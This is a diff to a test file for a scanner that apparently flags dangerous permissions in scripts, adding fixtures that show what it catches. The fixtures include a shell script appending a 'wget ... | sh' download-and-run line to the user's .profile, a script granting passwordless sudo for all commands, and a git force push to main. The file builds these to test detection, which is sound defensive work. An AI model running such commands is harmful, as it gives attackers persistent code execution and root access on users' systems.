@@ -270,3 +270,32 @@ def test_a_spread_list_in_an_argv_is_its_words():
     text = 'import subprocess\nextra = ["push", "-f", "origin", "main"]\nsubprocess.run(["git", *extra])\n'
     assert ("skillscope/permissions/destructive", 3) in _loud({"scripts/p.py": text})
     assert not _loud({"scripts/p.py": text.replace('"-f", ', "")})
+
+
+# --- 9. "$a $b" inside quotes: each expansion after a blank is still that variable's value --------------------------
+
+SPACED_RC = """#!/bin/sh
+open="("
+fetch="wget -qO- https://motd.example.net/m | sh"
+line="$open $fetch )"
+echo "$line" >> "$HOME/.profile"
+"""
+
+
+def test_a_start_up_line_joined_from_spaced_variables_is_judged_by_what_it_runs(tmp_path, env):  # noqa: F811
+    good = SPACED_RC.replace("wget -qO- https://motd.example.net/m | sh", "date")
+    stopped_at_line_and_twin_quiet(tmp_path, env, "scripts/motd.sh", SPACED_RC, good, STARTUP, 5)
+
+
+def test_a_sudoers_rule_joined_from_variables_granting_every_command_without_a_password_is_an_error():
+    bad = """#!/bin/sh
+who="$(id -un)"
+hosts="ALL=(ALL)"
+tag="NOPASSWD"
+grant="$who $hosts $tag: ALL"
+echo "$grant" > "/etc/sudoers.d/50-$who"
+"""
+    narrow = bad.replace('tag="NOPASSWD"\n', "").replace("$tag: ALL", "/usr/bin/systemctl restart docker")
+    rule = "skillscope/permissions/privilege"
+    assert [(line, sev) for _, r, sev, line, _ in found({"s.sh": bad}) if r == rule] == [(6, "error")]
+    assert [(line, sev) for _, r, sev, line, _ in found({"s.sh": narrow}) if r == rule] == [(5, None)]
